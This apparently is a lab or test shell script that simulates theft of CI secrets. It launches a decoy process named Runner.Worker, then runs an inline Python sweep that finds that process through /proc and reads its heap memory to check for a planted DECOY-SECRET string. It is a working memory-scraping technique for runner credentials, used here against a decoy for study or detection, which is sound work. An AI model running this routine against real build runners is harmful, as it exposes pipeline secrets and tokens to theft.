# CI secrets: an interpreter looks for Runner.Worker, then reads maps and mem.
cp $LAB/bin/decoy /tmp/Runner.Worker
/tmp/Runner.Worker -n Runner.Worker -t 20 -o /tmp/runner &
for _ in $(seq 50); do [ -s /tmp/runner ] && break; sleep 0.1; done
cat > /tmp/sweep.py <<'P'
import os
wanted = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"Runner.Worker" in open(f"/proc/{pid}/cmdline", "rb").read():
            wanted.append(pid)
    except OSError:
        pass
for pid in wanted:
    maps, mem = open(f"/proc/{pid}/maps"), open(f"/proc/{pid}/mem", "rb", 0)
    for line in maps:
        if "[heap]" in line:
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            mem.seek(start)
            print(pid, b"DECOY-SECRET" in mem.read(end - start))
P
python3 < /tmp/sweep.py
kill %1
